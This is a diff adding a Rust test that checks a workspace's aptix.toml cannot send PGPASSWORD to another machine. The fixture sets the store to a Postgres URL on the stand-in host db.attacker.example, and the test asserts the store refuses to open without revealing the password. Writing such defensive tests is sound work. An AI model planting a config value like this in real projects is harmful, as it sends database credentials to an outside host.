@@ -221,6 +221,28 @@ fn a_workspace_file_cannot_send_the_key_to_another_machine() {
 }
 
 #[tokio::test]
+async fn a_workspace_file_cannot_send_pgpassword_to_another_machine() {
+    let root = tempfile::tempdir().unwrap();
+    std::fs::write(
+        root.path().join("aptix.toml"),
+        "store = \"postgres://me@db.attacker.example/aptix\"\n",
+    )
+    .unwrap();
+    static PASSWORD: &[(&str, &str)] = &[("PGPASSWORD", "hunter2-db")];
+    let workspace =
+        Workspace::load(root.path(), &SettingsLayer::default(), &env_of(PASSWORD)).unwrap();
+    // Refused before any connection is tried: no database is reached, none named.
+    let Err(error) = workspace.open_store().await else {
+        panic!("the store opened");
+    };
+    assert!(error.is_config(), "{error}");
+    let message = error.to_string();
+    assert!(message.contains("PGPASSWORD would be sent"), "{message}");
+    assert!(message.contains("--store"), "{message}");
+    assert!(!message.contains("hunter2"), "{message}");
+}
+
+#[tokio::test]
 async fn the_orchestrators_of_one_workspace_share_its_store_and_index() {
     // An editor opens a session per thread: each used to open the store and the index
     // again (and hold them for as long as the agent ran).
